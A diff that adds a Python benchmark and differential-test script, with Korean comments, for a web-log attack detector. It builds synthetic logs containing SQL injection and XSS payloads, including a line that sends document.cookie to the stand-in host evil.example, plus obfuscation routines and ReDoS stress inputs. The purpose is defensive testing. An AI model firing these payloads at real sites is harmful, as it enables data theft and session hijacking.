@@ -0,0 +1,440 @@
+import os, re, sys, json, time, random, shutil, argparse, platform, tempfile, subprocess
+import numpy as np
+import joblib
+from collections import Counter
+from datetime import datetime, timedelta
+from urllib.parse import quote
+
+# 분석기(asdfg.py)의 단계별 함수를 그대로 측정한다 (같은 디렉터리)
+import asdfg as A
+
+# ===== 경로/설정 =====
+BASE_DIR = os.path.dirname(os.path.abspath(__file__))
+TRAIN_SCRIPT = os.path.join(BASE_DIR, "train.py")
+DEFAULT_LINES = 100_000
+DEFAULT_STAGE_LINES = 20_000
+DEFAULT_MAX_REGRESSION = 0.20   # 기준 대비 처리량이 20% 넘게 떨어지면 실패
+DEFAULT_STRESS_LENGTHS = (256, 1024, 2040, 16384)   # 기본 길이 한도(2048) 바로 아래와 훨씬 위를 포함
+DEFAULT_BENIGN_STRESS_LENGTHS = (1024, 4096, 8192)   # 긴 정상 요청 길이 (Apache/nginx 기본 요청 줄 한도 8KB까지)
+DEFAULT_MAX_STRESS_LINE_MS = 100.0   # 적대적 입력 한 건의 규칙 단계 최대 허용 시간
+BENCH_FORMAT = 1
+
+# ===== 합성 로그 생성기 =====
+# 같은 인자(시드 포함)면 항상 같은 코퍼스를 만든다.
+_PATHS = ["/", "/index.html", "/login", "/search", "/api/users", "/api/v1/items", "/product.php", "/board/view",
+          "/static/app.js", "/static/css/site.css", "/img/logo.png", "/health", "/cart", "/api/v2/orders"]
+_NORMAL_QUERIES = ["", "", "", "q={w}", "page={n}&sort=asc", "id={n}", "lang=en", "token={h}", "q={w}+{w}",
+                   "ref=home&utm_source={w}", "v=1.{n}", "category={w}&page={n}", "start={n}&limit=20"]
+_WORDS = ["shoes", "hello", "world", "notebook", "coffee", "seoul", "review", "blue", "sale", "news", "music"]
+_SQLI = ["id=1' or 1=1--", "id=1 union select null,@@version--", "id=1;drop table users", "n=sleep(5)",
+         "id=1 and extractvalue(1,concat(0x7e,version()))", "q=' or 'a'='a", "id=1 order by 3--", "u=admin'--",
+         "id=1 union all select username,password from users", "id=1 and benchmark(1000000,md5(1))"]
+_XSS = ["q=<script>alert(1)</script>", "u=<img src=x onerror=alert(1)>", "c=<svg/onload=confirm(1)>",
+        "x=javascript:alert(document.cookie)", "q=<iframe src=//evil.example>", "s=<body onload=prompt(1)>",
+        "q=\"><script>document.location='//evil.example/?c='+document.cookie</script>"]
+_FULLWIDTH = str.maketrans({c: chr(ord(c) + 0xFEE0) for c in "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"})
+_OBF_KEYWORD_RE = re.compile(r"(?i)(select|union|script|alert|sleep|from|onerror|onload)")
+
+def _obfuscate(query, rng):
+    """공격 페이로드 난독화: URL/이중 인코딩, 주석 삽입, 대소문자 혼합, 전각 문자, HTML 엔티티"""
+    key, _, v = query.partition("=")
+    kind = rng.randrange(6)
+    if kind == 0: v = quote(v, safe="")
+    elif kind == 1: v = quote(quote(v, safe=""), safe="")
+    elif kind == 2: v = _OBF_KEYWORD_RE.sub(lambda m: m.group(1)[:2] + "/**/" + m.group(1)[2:], v)
+    elif kind == 3: v = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in v)
+    elif kind == 4: v = v.translate(_FULLWIDTH)
+    else: v = "".join(f"&#x{ord(c):x};" if c in "<>'\"(" else c for c in v)
+    return f"{key}={v}"
+
+def _random_request(rng, attack_ratio, obfuscated_ratio):
+    """(path, query, 탐지 라벨) 하나 생성"""
+    path = rng.choice(_PATHS)
+    if rng.random() < attack_ratio:
+        detection = "SQL Injection" if rng.random() < 0.5 else "XSS"
+        query = rng.choice(_SQLI if detection == "SQL Injection" else _XSS)
+        if rng.random() < obfuscated_ratio: query = _obfuscate(query, rng)
+        return path, query.replace(" ", "%20"), detection
+    query = rng.choice(_NORMAL_QUERIES).format(w=rng.choice(_WORDS), n=rng.randrange(100_000), h=f"{rng.getrandbits(48):012x}")
+    return path, query, ""
+
+def generate_corpus(path, n_lines, fmt="apache", dup_ratio=0.3, attack_ratio=0.1, obfuscated_ratio=0.4, seed=0):
+    """Apache combined 또는 JSONL 형식의 합성 로그를 만들고 구성 통계를 반환.
+    dup_ratio 비율의 라인은 앞서 나온 요청을 반복한다 (헬스체크/정적 리소스처럼 같은 URL이 반복되는 트래픽)."""
+    rng = random.Random(seed)
+    pool, counts = [], {"lines": n_lines, "attacks": 0, "duplicates": 0}
+    t0 = datetime(2025, 10, 10, 13, 0, 0)
+    with open(path, "w", encoding="utf-8") as f:
+        for i in range(n_lines):
+            if pool and rng.random() < dup_ratio:
+                req = rng.choice(pool)
+                counts["duplicates"] += 1
+            else:
+                req = _random_request(rng, attack_ratio, obfuscated_ratio)
+                if len(pool) < 10_000: pool.append(req)
+            p, q, detection = req
+            counts["attacks"] += bool(detection)
+            ip = f"10.{rng.randrange(4)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
+            ts = t0 + timedelta(seconds=i // 20)
+            if fmt == "jsonl":
+                key, _, value = q.partition("=")
+                f.write(json.dumps({"timestamp": ts.isoformat(), "ip": ip, "method": "GET", "path": p, "param": key,
+                                    "payload": value, "detection": detection}, ensure_ascii=False) + "\n")
+            else:
+                uri = p + ("?" + q if q else "")
+                f.write(f'{ip} - - [{ts.strftime("%d/%b/%Y:%H:%M:%S")} +0900] "GET {uri} HTTP/1.1" 200 {rng.randrange(100, 20000)} '
+                        f'"-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"\n')
+    counts["bytes"] = os.path.getsize(path)
+    return counts
+
+# ===== 측정 =====
+def best_of(fn, repeat):
+    """repeat번 실행해 가장 빠른 시간(초)과 마지막 결과를 반환"""
+    best, out = float("inf"), None
+    for _ in range(max(1, repeat)):
+        t = time.perf_counter()
+        out = fn()
+        best = min(best, time.perf_counter() - t)
+    return best, out
+
+def rate(seconds, items):
+    return {"seconds": round(seconds, 6), "items": items, "per_sec": round(items / seconds, 1) if seconds > 0 else None,
+            "us_per_item": round(seconds / items * 1e6, 3) if items else None}
+
+def in_batches(items, fn, batch_size=A.DEFAULT_BATCH_SIZE):
+    return [fn(items[i:i + batch_size]) for i in range(0, len(items), batch_size)]
+
+def bench_stages(fp, fmt, models, stage_lines, repeat):
+    """단계별 처리량. 읽기는 파일 전체, 나머지는 앞쪽 stage_lines 라인 기준."""
+    cal_clf, iforest, svd = models
+    stages = {}
+    sec, n = best_of(lambda: sum(1 for _ in A.iter_lines_mmap(fp)), repeat)
+    stages["iter_lines_mmap"] = rate(sec, n)
+
+    lines = []
+    for line in A.iter_lines_mmap(fp):
+        lines.append(line)
+        if len(lines) >= stage_lines: break
+    parse = A.parse_jsonl_line if fmt == "jsonl" else A.parse_line
+    sec, parsed = best_of(lambda: [parse(l) for l in lines], repeat)
+    stages[parse.__name__] = rate(sec, len(lines))
+    if fmt != "jsonl":   # 접속 필드까지 나누는 combined 파서 (분석 경로에서 먼저 시도)
+        sec, _ = best_of(lambda: [A.parse_combined_line(l) for l in lines], repeat)
+        stages["parse_combined_line"] = rate(sec, len(lines))
+
+    parsed = [(p, q) for p, q in parsed if p or q]
+    recs = [(p or "") + (("?" + q) if q else "") for p, q in parsed]
+    sec, _ = best_of(lambda: [A.canonicalize(r) for r in recs], repeat)
+    stages["canonicalize"] = rate(sec, len(recs))
+    sec, _ = best_of(lambda: [A.rule_based_label(p, q) for p, q in parsed], repeat)
+    stages["rule_based_label"] = rate(sec, len(parsed))
+
+    sec, Xs = best_of(lambda: in_batches(recs, A.vec.transform), repeat)
+    stages["vectorize"] = rate(sec, len(recs))
+    sec, _ = best_of(lambda: [cal_clf.predict(X) for X in Xs], repeat)
+    stages["classify"] = rate(sec, len(recs))
+    sec, Rs = best_of(lambda: [svd.transform(X) for X in Xs], repeat)
+    stages["svd_transform"] = rate(sec, len(recs))
+    sec, _ = best_of(lambda: [iforest.decision_function(R) for R in Rs], repeat)
+    stages["iforest_score"] = rate(sec, len(recs))
+    return stages
+
+def bench_analyze(fp, models, n_lines, repeat):
+    """analyze_single_file 전체 (판정 캐시 없음 / 빈 캐시에서 시작)"""
+    out = {}
+    for name, cache_size in (("analyze", 0), ("analyze_cached", A.DEFAULT_CACHE_SIZE)):
+        def run():
+            A.enable_verdict_cache(cache_size)
+            return len(A.analyze_single_file(fp, models=models))
+        sec, n_results = best_of(run, repeat)
+        out[name] = dict(rate(sec, n_lines), results=n_results)
+    A.enable_verdict_cache(0)
+    return out
+
+def bench_train(workdir, seed, max_samples, stream=False):
+    """작업 디렉터리에 복사한 train.py를 실행 (특성 캐시 없는 cold → 캐시가 생긴 warm 순서)"""
+    script = os.path.join(workdir, "train.py")
+    shutil.copy(TRAIN_SCRIPT, script)
+    logs = os.path.join(workdir, "logs")
+    n_lines = sum(sum(1 for _ in open(os.path.join(logs, f), 'rb')) for f in os.listdir(logs) if not f.endswith(".npz"))
+    for f in os.listdir(logs):
+        if f.endswith(".npz"): os.remove(os.path.join(logs, f))
+    cmd = [sys.executable, script, "--seed", str(seed), "--max-samples", str(max_samples)] + (["--stream"] if stream else [])
+    out = {}
+    for name in ("cold", "warm"):
+        t = time.perf_counter()
+        proc = subprocess.run(cmd, cwd=workdir, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+        sec = time.perf_counter() - t
+        if proc.returncode != 0:
+            sys.stderr.write(proc.stdout.decode("utf-8", errors="replace"))
+            raise RuntimeError(f"train.py 실패 (exit {proc.returncode})")
+        out[name] = rate(sec, n_lines)
+    return out
+
+# 정규화 후에도 남아서 특정 패턴을 길이의 제곱만큼 역추적시키는 반복 조각 (이름 → 조각)
+_ADVERSARIAL_UNITS = {"template_braces": "{{", "erb_tags": "<%", "fuzzy_comment": "s/*", "fuzzy_keyword": "u/*n/*i/*o/*",
+                      "unclosed_tag": "<img", "event_handler": "onab", "escape_seq": "\\x", "sql_quote": "' or"}
+
+_STRESS_XSS = "<script>alert(1)</script>"
+_STRESS_SQLI = "&id=1 union select password from users"
+# 길이 한도를 넘어도 정상으로 남아야 하는 긴 요청 (추적 파라미터, 긴 값): 이름 → (path, 길이 n의 query를 만드는 함수)
+_STRESS_BENIGN = {"tracking_params": ("/api/track", lambda n: "&".join(f"utm_param{i}=value{i}" for i in range(n // 18))),
+                  "long_value": ("/upload", lambda n: "data=" + "a" * n)}
+
+def adversarial_requests(lengths=DEFAULT_STRESS_LENGTHS, benign_lengths=DEFAULT_BENIGN_STRESS_LENGTHS):
+    """(이름, path, query, 기대 라벨 또는 None) 목록. 각 조각을 path+query 길이가 lengths 이하가 되도록 반복하고,
+    실제 공격을 조각 앞/뒤에 붙인 변형도 만든다. 공격 변형은 패딩으로 길이/시간 한도에 걸려도 라벨이 유지돼야 하고,
+    긴 정상 요청은 길이 한도를 넘어도 normal이어야 한다."""
+    out = [(f"{name}@{n}", path, make(n), "normal") for name, (path, make) in _STRESS_BENIGN.items() for n in benign_lengths]
+    for name, unit in _ADVERSARIAL_UNITS.items():
+        for n in lengths:
+            body = unit * (max(0, n - len("/searchq=")) // len(unit))
+            out.append((f"{name}@{n}", "/search", "q=" + body, None))
+            out.append((f"{name}+xss@{n}", "/search", "q=" + body[:max(0, len(body) - len(_STRESS_XSS))] + _STRESS_XSS,
+                        "xss_attack"))
+            out.append((f"xss+{name}@{n}", "/search", f"q={_STRESS_XSS}&x=" + body, "xss_attack"))
+            out.append((f"{name}+sqli@{n}", "/search", "q=" + body[:max(0, len(body) - len(_STRESS_SQLI))] + _STRESS_SQLI,
+                        "sql_injection"))
+    return out
+
+def bench_rule_stress(repeat, lengths=DEFAULT_STRESS_LENGTHS):
+    """적대적 입력에 대한 rule_based_match의 라인별 최대 시간/처리량과, 패턴별 누적 시간(병적인 패턴 식별)"""
+    requests = adversarial_requests(lengths)
+    A.metrics = A.Metrics()
+    worst = {}
+    def run():
+        verdicts = []
+        for name, path, query, _ in requests:
+            t = time.perf_counter()
+            verdicts.append(A.rule_based_match(path, query))
+            worst[name] = max(worst.get(name, 0.0), time.perf_counter() - t)
+        return verdicts
+    sec, verdicts = best_of(run, repeat)
+    limited = Counter(r for _, rules in verdicts for r in rules if r.startswith("rule_limit:"))
+    mislabeled = [{"input": name, "expected": expected, "got": label}
+                  for (name, _, _, expected), (label, _) in zip(requests, verdicts) if expected and label != expected]
+    slowest = sorted(worst.items(), key=lambda kv: -kv[1])
+    summary = A.metrics.summary()
+    A.metrics = A.Metrics()
+    return {"rules": rate(sec, len(requests)), "max_line_ms": round(slowest[0][1] * 1e3, 3),
+            "slowest_inputs": [{"input": k, "ms": round(v * 1e3, 3)} for k, v in slowest[:5]],
+            "rule_limits": dict(limited), "mislabeled": mislabeled, "rule_timing": summary["rule_timing"][:10],
+            "limits": {"max_input_len": A.RULE_MAX_INPUT_LEN, "class_budget_ms": A.RULE_CLASS_BUDGET_MS,
+                       "fallback": A.rule_fallback_verdict}}
+
+# ===== 정규화 차등 검사 =====
+# canonicalize의 ASCII 빠른 경로가 전체 경로(_canonicalize_full)와 바이트 단위로 같은지, train.py 사본과도 같은지 확인한다.
+# 절반은 빠른 경로를 타는 출력 가능 ASCII, 절반은 빠른 경로를 벗어나게 하는 조각(%-이스케이프, 엔티티, 주석 표시,
+# 제어문자, NBSP/NEL, 키릴 동형문자, 전각 문자, 합자)을 섞은 문자열이다.
+DEFAULT_CHECK_INPUTS = 200_000
+_CHECK_ASCII = [chr(c) for c in range(0x20, 0x7F)]
+_CHECK_PIECES = _CHECK_ASCII + ["%27", "%3C", "%2f", "%252f", "%0a", "%0D", "%09", "%a0", "%", "%z", "&lt;", "&#x3c;", "&#60",
+                                "&amp;", "&quot;", "--", "/*", "*/", "/**/", "#", "\t", "\n", "\r", "\x0b", "\x1f", "\x7f",
+                                "\x85", "\xa0", "\u2028", "\u3000", "А", "е", "о", "с", "і", "ｓｅｌｅｃｔ", "Ｓ", "ﬁ", "²", "É", "ß"]
+
+def check_canonicalize(n=DEFAULT_CHECK_INPUTS, seed=0, corpus_lines=20_000):
+    """(검사 입력 수, 불일치 목록[최대 10]) 반환"""
+    import train as T
+    rng = random.Random(seed)
+    inputs = []
+    for i in range(n):
+        pool = _CHECK_ASCII if i % 2 == 0 else _CHECK_PIECES
+        inputs.append("".join(rng.choice(pool) for _ in range(rng.randrange(0, 40))))
+    with tempfile.TemporaryDirectory() as tmp:   # 합성 로그의 실제 path/query도 포함
+        fp = os.path.join(tmp, "check.log")
+        generate_corpus(fp, corpus_lines, seed=seed)
+        for line in A.iter_lines_mmap(fp):
+            path, query = A.parse_line(line)
+            inputs += [path, query, path + "?" + query]
+    encode = lambda x: x.encode("utf-8", "surrogatepass")
+    mismatches = []
+    for x in inputs:
+        expected = encode(A._canonicalize_full(x)) if x else b""
+        got = {"asdfg": encode(A.canonicalize(x)), "train": encode(T.canonicalize(x))}
+        if any(v != expected for v in got.values()):
+            mismatches.append({"input": x, "expected": expected.decode("utf-8", "surrogatepass"),
+                               **{k: v.decode("utf-8", "surrogatepass") for k, v in got.items()}})
+            if len(mismatches) >= 10: break
+    return len(inputs), mismatches
+
+def check_rule_engines(seed=0, corpus_lines=5_000):
+    """asdfg.py와 train.py의 규칙 엔진이 같은 라벨/규칙 ID를 내는지 (학습 라벨 = 분석 판정).
+    시간 예산에 따른 차이를 없애려고 두 쪽 예산을 모두 풀고 적대적/긴 입력과 합성 로그로 비교한다.
+    (검사 입력 수, 불일치 목록[최대 10]) 반환"""
+    import train as T
+    inputs = [(path, query) for _, path, query, _ in adversarial_requests()]
+    with tempfile.TemporaryDirectory() as tmp:
+        fp = os.path.join(tmp, "check.log")
+        generate_corpus(fp, corpus_lines, seed=seed)
+        inputs += [A.parse_line(line) for line in A.iter_lines_mmap(fp)]
+    budgets = A.RULE_CLASS_BUDGET_MS, T.RULE_CLASS_BUDGET_MS
+    A.RULE_CLASS_BUDGET_MS = T.RULE_CLASS_BUDGET_MS = 1e9
+    mismatches = []
+    try:
+        for path, query in inputs:
+            label, rules = A.rule_based_match(path, query)
+            expected = (label, [r for r in rules if not r.startswith("rule_limit:")])
+            got = T.rule_based_match(path, query)
+            if got != expected:
+                mismatches.append({"input": f"{path}?{query}"[:120], "asdfg": expected, "train": got})
+                if len(mismatches) >= 10: break
+    finally:
+        A.RULE_CLASS_BUDGET_MS, T.RULE_CLASS_BUDGET_MS = budgets
+    return len(inputs), mismatches
+
+def load_bench_models(model_dir):
+    bundle = os.path.join(model_dir, "model_bundle")
+    t = time.perf_counter()
+    if os.path.exists(os.path.join(bundle, "meta.json")):
+        models, kind = A.load_model_bundle(bundle), "bundle"
+    elif not os.path.exists(os.path.join(model_dir, "calibrated_model.pkl")):
+        print(f"❌ '{model_dir}'에 모델이 없습니다. train.py로 학습하거나 --no-train 없이 실행하세요.", file=sys.stderr)
+        sys.exit(1)
+    else:
+        iforest, svd = joblib.load(os.path.join(model_dir, "iforest_model.pkl"))
+        models, kind = (joblib.load(os.path.join(model_dir, "calibrated_model.pkl")), iforest, svd), "pickle"
+    return models, {"kind": kind, "load_seconds": round(time.perf_counter() - t, 6)}
+
+# ===== 기준 비교 =====
+def throughput_metrics(result):
+    """비교 대상 처리량(per_sec) 평탄화: {"apache.stages.parse_line": ..., "train.cold": ...}"""
+    metrics = {}
+    for fmt, r in result.get("formats", {}).items():
+        for group in ("stages", "end_to_end"):
+            for name, m in r.get(group, {}).items():
+                if m.get("per_sec"): metrics[f"{fmt}.{group}.{name}"] = m["per_sec"]
+    for mode, r in result.get("train", {}).items():
+        for name, m in r.items():
+            if m.get("per_sec"): metrics[f"train.{mode}.{name}"] = m["per_sec"]
+    if result.get("stress", {}).get("rules", {}).get("per_sec"):
+        metrics["stress.rules"] = result["stress"]["rules"]["per_sec"]
+    return metrics
+
+def compare_to_baseline(result, baseline, max_regression):
+    """기준보다 max_regression 비율 넘게 느려진 지표 목록 [(지표, 기준, 현재, 비율)]"""
+    cur, base = throughput_metrics(result), throughput_metrics(baseline)
+    rows = [(k, base[k], cur[k], cur[k] / base[k]) for k in sorted(cur.keys() & base.keys())]
+    return rows, [r for r in rows if r[3] < 1.0 - max_regression]
+
+def print_summary(result, rows=None, max_regression=DEFAULT_MAX_REGRESSION):
+    for fmt, r in result["formats"].items():
+        print(f"[{fmt}] {r['corpus']['lines']:,} lines, {r['corpus']['bytes'] / 1e6:.1f} MB", file=sys.stderr)
+        for group in ("stages", "end_to_end"):
+            for name, m in r[group].items():
+                print(f"  {name:<18} {m['per_sec'] or 0:>14,.0f} /s  {m['us_per_item'] or 0:>10.2f} us", file=sys.stderr)
+    for mode, r in result.get("train", {}).items():
+        for name, m in r.items():
+            print(f"[train {mode} {name}] {m['seconds']:.1f}s ({m['per_sec'] or 0:,.0f} lines/s)", file=sys.stderr)
+    stress = result.get("stress")
+    if stress:
+        print(f"[stress] {stress['rules']['items']} adversarial requests, {stress['rules']['per_sec'] or 0:,.0f} /s, "
+              f"max {stress['max_line_ms']:.1f} ms/line, limits {stress['rule_limits']}, "
+              f"mislabeled {len(stress['mislabeled'])}", file=sys.stderr)
+        for r in stress["mislabeled"][:5]:
+            print(f"  ❌ {r['input']:<26} expected {r['expected']}, got {r['got']}", file=sys.stderr)
+        for r in stress["rule_timing"][:5]:
+            print(f"  {r['rule']:<26} total {r['total_ms']:>9.1f} ms  max {r['max_ms']:>7.2f} ms", file=sys.stderr)
+    for k, b, c, ratio in rows or []:
+        print(f"  {'❌' if ratio < 1.0 - max_regression else '  '} {k:<40} {b:>14,.0f} → {c:>14,.0f} ({ratio - 1:+.1%})", file=sys.stderr)
+
+# ===== 실행 =====
+if __name__ == '__main__':
+    parser = argparse.ArgumentParser(description="로그 분석/학습 처리량 벤치마크 (합성 코퍼스)")
+    parser.add_argument("--lines", type=int, default=DEFAULT_LINES, help=f"형식별 생성 라인 수 (기본 {DEFAULT_LINES:,})")
+    parser.add_argument("--formats", default="apache,jsonl", help="생성할 형식: apache,jsonl (쉼표 구분)")
+    parser.add_argument("--dup-ratio", type=float, default=0.3, help="앞서 나온 요청을 반복하는 라인 비율 (기본 0.3)")
+    parser.add_argument("--attack-ratio", type=float, default=0.1, help="SQLi/XSS 공격 라인 비율 (기본 0.1)")
+    parser.add_argument("--obfuscated-ratio", type=float, default=0.4, help="공격 중 난독화된 비율 (기본 0.4)")
+    parser.add_argument("--seed", type=int, default=0, help="코퍼스/학습 시드 (기본 0)")
+    parser.add_argument("--stage-lines", type=int, default=DEFAULT_STAGE_LINES,
+                        help=f"단계별 측정에 쓰는 라인 수 (기본 {DEFAULT_STAGE_LINES:,})")
+    parser.add_argument("--repeat", type=int, default=3, help="각 측정 반복 횟수, 최솟값 사용 (기본 3)")
+    parser.add_argument("--no-train", action="store_true", help="train.py 측정을 생략하고 --models의 기존 모델로 분석 측정")
+    parser.add_argument("--models", default=BASE_DIR, help="--no-train일 때 사용할 모델 디렉터리 (기본: 이 스크립트 위치)")
+    parser.add_argument("--train-stream", action="store_true", help="train.py --stream 모드도 측정")
+    parser.add_argument("--train-samples", type=int, default=50_000, help="train.py --max-samples (기본 50,000)")
+    parser.add_argument("--no-stress", action="store_true", help="규칙 단계 ReDoS 스트레스 측정 생략")
+    parser.add_argument("--max-stress-line-ms", type=float, default=DEFAULT_MAX_STRESS_LINE_MS,
+                        help=f"적대적 입력 한 건의 규칙 단계 허용 시간(ms). 넘으면 exit 1 (기본 {DEFAULT_MAX_STRESS_LINE_MS})")
+    parser.add_argument("--check", action="store_true",
+                        help="벤치마크 대신 차등 검사만 실행 (canonicalize 빠른 경로, asdfg/train 규칙 엔진). 불일치가 있으면 exit 1")
+    parser.add_argument("--check-inputs", type=int, default=DEFAULT_CHECK_INPUTS,
+                        help=f"차등 검사에 쓰는 퍼징 입력 수 (기본 {DEFAULT_CHECK_INPUTS:,})")
+    parser.add_argument("--workdir", help="코퍼스/모델 작업 디렉터리 (기본: 임시 디렉터리, 종료 시 삭제)")
+    parser.add_argument("--output", "-o", help="결과 JSON 파일 (기본: stdout)")
+    parser.add_argument("--baseline", help="비교할 이전 결과 JSON. 처리량이 --max-regression 넘게 떨어지면 exit 1")
+    parser.add_argument("--max-regression", type=float, default=DEFAULT_MAX_REGRESSION,
+                        help=f"허용 처리량 감소 비율 (기본 {DEFAULT_MAX_REGRESSION})")
+    args = parser.parse_args()
+
+    if args.check:
+        n_checked, mismatches = check_canonicalize(args.check_inputs, args.seed)
+        for m in mismatches:
+            print(f"  ❌ {m['input']!r}: full {m['expected']!r}, asdfg {m['asdfg']!r}, train {m['train']!r}", file=sys.stderr)
+        print(f"{'❌' if mismatches else '✅'} canonicalize 차등 검사: {n_checked:,}개 입력, 불일치 {len(mismatches)}건",
+              file=sys.stderr)
+        n_rules, rule_mismatches = check_rule_engines(args.seed)
+        for m in rule_mismatches:
+            print(f"  ❌ {m['input']!r}: asdfg {m['asdfg']}, train {m['train']}", file=sys.stderr)
+        print(f"{'❌' if rule_mismatches else '✅'} 규칙 엔진 차등 검사(asdfg/train): {n_rules:,}개 입력, 불일치 {len(rule_mismatches)}건",
+              file=sys.stderr)
+        sys.exit(1 if mismatches or rule_mismatches else 0)
+
+    workdir = args.workdir or tempfile.mkdtemp(prefix="logx-bench-")
+    os.makedirs(os.path.join(workdir, "logs"), exist_ok=True)
+    formats = [f.strip() for f in args.formats.split(",") if f.strip()]
+    result = {"format": BENCH_FORMAT, "created": datetime.now().isoformat(timespec="seconds"),
+              "environment": {"python": platform.python_version(), "platform": platform.platform(),
+                              "cpu_count": os.cpu_count(), "numpy": np.__version__,
+                              "sklearn": __import__("sklearn").__version__},
+              "params": {k: getattr(args, k) for k in ("lines", "dup_ratio", "attack_ratio", "obfuscated_ratio", "seed",
+                                                       "stage_lines", "repeat", "train_samples")},
+              "formats": {}, "train": {}}
+    try:
+        corpora = {}
+        for i, fmt in enumerate(formats):
+            fp = os.path.join(workdir, "logs", f"bench_{fmt}.{'jsonl' if fmt == 'jsonl' else 'log'}")
+            corpora[fmt] = (fp, generate_corpus(fp, args.lines, fmt, args.dup_ratio, args.attack_ratio,
+                                                args.obfuscated_ratio, args.seed + i))
+
+        if args.no_train:
+            models, result["models"] = load_bench_models(args.models)
+        else:
+            result["train"]["memory"] = bench_train(workdir, args.seed, args.train_samples)
+            if args.train_stream:
+                result["train"]["stream"] = bench_train(workdir, args.seed, args.train_samples, stream=True)
+            models, result["models"] = load_bench_models(workdir)
+
+        for fmt, (fp, corpus) in corpora.items():
+            result["formats"][fmt] = {"corpus": corpus,
+                                      "stages": bench_stages(fp, fmt, models, args.stage_lines, args.repeat),
+                                      "end_to_end": bench_analyze(fp, models, corpus["lines"], args.repeat)}
+        if not args.no_stress:
+            result["stress"] = bench_rule_stress(args.repeat)
+    finally:
+        if not args.workdir: shutil.rmtree(workdir, ignore_errors=True)
+
+    rows, regressions = None, []
+    if args.baseline:
+        with open(args.baseline, encoding="utf-8") as f:
+            rows, regressions = compare_to_baseline(result, json.load(f), args.max_regression)
+        result["regressions"] = [{"metric": k, "baseline": b, "current": c, "ratio": round(r, 4)} for k, b, c, r in regressions]
+    print_summary(result, rows, args.max_regression)
+
+    text = json.dumps(result, ensure_ascii=False, indent=2)
+    if args.output:
+        with open(args.output, "w", encoding="utf-8") as f:
+            f.write(text + "\n")
+    else:
+        print(text)
+    failed = bool(regressions)
+    if regressions:
+        print(f"❌ 성능 회귀 {len(regressions)}건 (허용 {args.max_regression:.0%})", file=sys.stderr)
+    if "stress" in result and result["stress"]["max_line_ms"] > args.max_stress_line_ms:
+        print(f"❌ 적대적 입력 처리 시간 초과: {result['stress']['max_line_ms']:.1f} ms > {args.max_stress_line_ms} ms",
+              file=sys.stderr)
+        failed = True
+    if "stress" in result and result["stress"]["mislabeled"]:
+        print(f"❌ 패딩된 공격 변형/긴 정상 요청의 라벨 변경: {len(result['stress']['mislabeled'])}건", file=sys.stderr)
+        failed = True
+    if failed: sys.exit(1)